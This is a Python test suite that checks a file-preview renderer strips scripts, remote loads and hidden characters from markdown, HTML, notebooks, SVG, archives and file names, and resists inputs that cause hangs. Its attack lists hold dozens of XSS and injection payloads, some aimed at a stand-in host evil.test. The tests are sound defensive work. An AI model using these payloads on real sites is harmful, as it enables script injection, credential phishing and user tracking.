"""Files that want to act, load or deceive: nothing of that is left when they are shown."""

import html
import json
import tracemalloc
from base64 import b64encode

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sandbook.rendering.source import Entry, Links, Surface
from sandbook.rendering.style import FRAGMENT_CSS, PAGE_CSS
from tests.core.rendering.allowed import inspected
from tests.core.rendering.examples import (
    EXAMPLES,
    FOLDER,
    code_cell,
    notebook,
    output,
    shown,
    shown_folder,
    tarred,
    zipped,
)

SURFACES = list(Surface)
ATTACKS = [
    "<script>fetch('/api')</script>",
    "<ScRiPt src=//evil.test/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.test/seen.png'>",
    "<img srcset='https://evil.test/seen.png 1x'>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\nscript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='//evil.test'>x</a>",
    "<a href='\\\\evil.test'>x</a>",
    "<a href='x' target=_top ping='https://evil.test'>x</a>",
    "<iframe src='/lab'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='/lab'></object><embed src='/lab'>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'>",
    "<meta http-equiv=Content-Security-Policy content='x'>",
    "<base href='https://evil.test/'>",
    "<link rel=stylesheet href='https://evil.test/x.css'>",
    "<form action='https://evil.test'><input name=token><button>Log in</button></form>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<style>*{background:url(https://evil.test)}</style>",
    "<style>@import 'https://evil.test/x.css';</style>",
    "<p style='background:url(https://evil.test)'>x</p>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<table background='https://evil.test/x.png'><tr><td>x</table>",
    "<video src='https://evil.test/v' poster='https://evil.test/p'></video>",
    "<audio autoplay src='https://evil.test/a'></audio>",
    "<input autofocus onfocus=alert(1)>",
    "<details ontoggle=alert(1) open>x</details>",
    "<div id=Lab class='jp-Toolbar' data-jp-x=1 contenteditable>x</div>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "</pre></div></main></body></html><script>alert(1)</script>",
    "</title></style><script>alert(1)</script>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!-- <script>alert(1)</script>",
    "<?php evil ?><![CDATA[<script>alert(1)</script>]]>",
    "<img src='data:text/html;base64,PHNjcmlwdD4='>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>' onload=x>",
    "\"'><script>alert(1)</script>",
    "<custom-element onclick=x>",
]
MARKDOWN_ATTACKS = [
    *ATTACKS,
    "[x](javascript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:alert(1))",
    "![x](https://evil.test/seen.png)",
    "![x](//evil.test/seen.png)",
    "[x]: javascript:alert(1)\n[x]",
    "<javascript:alert(1)>",
    '```"><script>alert(1)</script>\nx\n```',
    "```python\n</code></pre><script>alert(1)</script>\n```",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "[x](/view'onclick='x \"onclick=x\")",
]


def check(html_text):
    inspector = inspected(html_text)
    assert not inspector.findings
    assert "".join(inspector.styles) in {PAGE_CSS, FRAGMENT_CSS}


@pytest.mark.parametrize("surface", SURFACES)
@pytest.mark.parametrize("attack", MARKDOWN_ATTACKS)
def test_markdown_cannot_act(attack, surface):
    check(shown("a.md", f"text\n\n{attack}\n\nmore", surface).html)


@pytest.mark.parametrize("attack", ATTACKS)
def test_html_cannot_act(attack):
    check(shown("a.html", f"<!DOCTYPE html><html><body>{attack}</body></html>").html)


@pytest.mark.parametrize("surface", SURFACES)
@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("name", ["a.csv", "a.tsv", "a.txt", "a.py", "a.js", "a.json", "a.diff"])
def test_text_is_only_text(name, attack, surface):
    rendered = shown(name, f"a,b\n{attack},2\n", surface).html

    check(rendered)
    seen = "".join("".join(inspected(rendered).text).split())
    assert "".join(attack.split())[:5].strip('"') in seen


@pytest.mark.parametrize("attack", ATTACKS)
def test_json_is_only_text(attack):
    for document in ({attack: attack}, [attack], attack, {"a": {"b": [{attack: [attack]}]}}):
        check(shown("a.json", json.dumps(document)).html)
    check(shown("a.jsonl", f"{json.dumps(attack)}\n{json.dumps({attack: 1})}\n").html)


@pytest.mark.parametrize("surface", SURFACES)
@pytest.mark.parametrize("attack", ATTACKS)
def test_a_notebook_cannot_act(attack, surface):
    data = notebook(
        {"cell_type": "markdown", "source": attack, "attachments": {"x": {"image/png": attack}}},
        {"cell_type": "raw", "source": attack},
        {"cell_type": attack, "source": attack},
        code_cell(
            attack,
            {"output_type": "stream", "name": attack, "text": attack},
            {"output_type": "error", "ename": attack, "evalue": attack, "traceback": [attack]},
            output(**{"text/html": attack}),
            output(**{"text/markdown": attack}),
            output(**{"text/plain": attack}),
            output(**{"image/png": attack, "text/plain": attack}),
            output(**{"image/svg+xml": attack}),
            output(**{"application/json": {attack: attack}}),
            output(**{"application/javascript": attack}),
            output(**{attack: attack}),
        ),
        language=attack,
    )

    check(shown("a.ipynb", data, surface).html)


@pytest.mark.parametrize("surface", SURFACES)
@pytest.mark.parametrize("attack", ATTACKS)
def test_names_are_only_text(attack, surface):
    name = attack.replace("/", "|")
    check(shown(name, b"x", surface).html)
    check(shown(f"{name}.png", EXAMPLES["picture.png"], surface).html)
    check(shown("a.zip", zipped([name, f"{name}/x"]), surface).html)
    check(shown("a.tar", tarred([(name, b"x"), ("link", name)]), surface).html)
    entries = [Entry(attack, is_folder=True), Entry(name, size=1, target=attack)]
    check(shown_folder(entries, surface, name=attack).html)


@pytest.mark.parametrize("surface", SURFACES)
@pytest.mark.parametrize("attack", ATTACKS)
def test_a_drawing_is_shown_as_a_picture_only(attack, surface):
    drawing = f'<svg xmlns="http://www.w3.org/2000/svg">{attack}</svg>'
    rendered = shown("a.svg", drawing, surface).html

    check(rendered)
    assert f"data:image/svg+xml;base64,{b64encode(drawing.encode()).decode()}" in rendered


@pytest.mark.parametrize("surface", SURFACES)
@pytest.mark.parametrize("name", EXAMPLES)
def test_what_is_harmless_has_only_what_we_allow(name, surface):
    check(shown(name, EXAMPLES[name], surface).html)


@pytest.mark.parametrize("surface", SURFACES)
def test_a_folder_has_only_what_we_allow(surface):
    check(shown_folder(FOLDER, surface).html)


@pytest.mark.parametrize(
    ("name", "seen"),
    [
        ("line\nbreak", r"line\nbreak"),
        ("gpj\u202eexe.scr", r"gpj\u202eexe.scr"),
        ("a\u200bb", r"a\u200bb"),
        (b"not \xff utf-8".decode("utf-8", "surrogateescape"), r"not \xff utf-8"),
        ("bell\x07", r"bell\x07"),
        ("naïve 日本 👩\u200d🚀", "naïve 日本 👩\u200d🚀"),
        ("tag\U000e0041", r"tag\U000e0041"),
    ],
)
def test_nothing_in_a_name_is_hidden(name, seen):
    for rendered in (shown(name, b"x"), shown_folder([Entry(name, size=1)])):
        assert html.escape(seen) in rendered.html
        rendered.html.encode()
        rendered.title.encode()


def test_text_that_is_turned_around_is_seen():
    rendered = shown("a.py", "if x: \u202e# return\u2066\n\x1b[2J").html

    assert "\u202e" not in rendered
    assert "\u2066" not in rendered
    assert "\x1b" not in rendered
    assert "U+202E" in rendered


@pytest.mark.parametrize("url", ["javascript:alert(1)", "data:text/html,x", "//evil.test", "x\ny"])
def test_an_address_of_a_caller_that_went_wrong_is_not_used(url):
    links = Links(url, url, lambda _: url, lambda _: url, lambda _: url, url, url)
    for name in ("film.mp4", "paper.pdf", "README.md", "code.py"):
        assert url not in shown(name, EXAMPLES[name], links=links).html
    assert url not in shown("a.md", "[x](y) ![x](y)", links=links).html


@given(st.binary(max_size=300), st.sampled_from([*EXAMPLES, "x", "Makefile"]))
def test_any_bytes_under_any_name_are_shown_without_harm(data, name):
    for surface in SURFACES:
        check(shown(name, data, surface).html)


@given(st.text(max_size=200), st.sampled_from(["a.md", "a.csv", "a.json", "a.ipynb", "a.html"]))
def test_any_text_under_any_name_is_shown_without_harm(text, name):
    check(shown(name, text.encode("utf-8", "replace")).html)


@given(st.sampled_from(sorted(EXAMPLES)), st.integers(0, 200), st.binary(max_size=20))
def test_damaged_files_are_shown_without_harm(name, at, noise):
    data = EXAMPLES[name]
    check(shown(name, data[:at] + noise + data[at + len(noise) :]).html)
    check(shown(name, data[:at]).html)


@pytest.mark.timeout(60)
@pytest.mark.parametrize("name", ["x", "a.svg", "a.html", "a.ipynb", "a.xml"])
def test_comments_without_end_keep_nobody_waiting(name):
    for start in ("", "<?xml version='1.0'?>"):
        check(shown(name, start + "<!---->" * 500 + "<!-- --> -->").html)


@pytest.mark.timeout(60)
@pytest.mark.parametrize(("name", "start"), [("a.lua", "--[[ a\n"), ("a.pas", "{ a\n")])
def test_words_that_look_for_their_end_keep_nobody_waiting(name, start):
    """Coloured to the end, this would take a minute and more."""
    check(shown(name, start * (199_000 // len(start))).html)


@pytest.mark.timeout(60)
@pytest.mark.parametrize("filler", ["\n", " \n", "\t\n\n"])
def test_blank_lines_without_end_keep_nobody_waiting(filler):
    """Where a function of C might begin, the first word would take minutes."""
    check(shown("a.c", "a " + filler * (190_000 // len(filler))).html)


@pytest.mark.timeout(60)
def test_languages_that_cannot_be_stopped_stay_without_colours():
    check(shown("a.md", f"```html+ng2\n{'(' * 4_900}\n```\n" * 10).html)


@pytest.mark.timeout(60)
def test_a_picture_of_blanks_keeps_nobody_waiting():
    blanks = " " * 1_000_000 + "!"
    cell = code_cell("x", output(**{"image/png": blanks, "text/plain": "seen"}))
    markdown = {"cell_type": "markdown", "source": "![](attachment:a.png)"}
    markdown["attachments"] = {"a.png": {"image/png": blanks}}

    rendered = shown("a.ipynb", notebook(cell, markdown)).html

    assert "seen" in rendered
    assert "data:image/png" not in rendered


def test_many_empty_rows_take_little_memory():
    tracemalloc.start()
    try:
        rendered = shown("a.csv", b"a,b\n" + b"\n" * 1_000_000 + b"1,2\n")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()

    assert "1 row" in rendered.html
    assert peak < 30_000_000


@pytest.mark.timeout(60)
def test_a_picture_that_only_fills_keeps_nobody_waiting():
    check(shown("a.jpg", b"\xff\xd8" + b"\xff" * 10_000_000).html)
